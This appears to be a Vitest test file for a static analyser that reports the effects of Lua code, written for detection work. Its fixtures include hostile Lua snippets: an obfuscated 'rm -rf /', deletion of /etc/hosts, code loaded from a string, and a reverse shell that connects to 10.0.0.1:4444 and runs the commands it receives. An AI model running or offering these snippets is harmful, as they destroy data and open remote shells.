import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../../test/support/code-effects.js';

const lua = effectsOf('lua');

describe('lua producer', () => {
  it('states os.execute/io.popen command lines with folded strings', () => {
    expect(of(lua('os.execute("rm " .. "-rf /")'), 'exec')[0]?.code).toBe('rm -rf /');
    expect(of(lua('io.popen(string.char(105, 100))'), 'exec')[0]?.code).toBe('id');
    expect(of(lua('local c = "\\105\\100"; os.execute(c)'), 'exec')[0]?.code).toBe('id');
  });

  it('states files, sockets and code loaded from strings', () => {
    expect(of(lua('os.remove("/etc/hosts")'), 'delete')[0]?.path.path).toBe('/etc/hosts');
    const shell = lua('local s = require("socket"); local t = s.tcp(); t:connect("10.0.0.1", 4444); while true do local c = t:receive(); os.execute(c) end');
    expect(of(shell, 'connect')[0]).toMatchObject({ host: '10.0.0.1', port: 4444, shell: true });
    expect(of(lua('load("os.remove(\'/x\')")()'), 'delete')[0]?.path.path).toBe('/x');
    expect(lua('print(string.format("%d", 1 + 2))')).toEqual([]);
  });
});
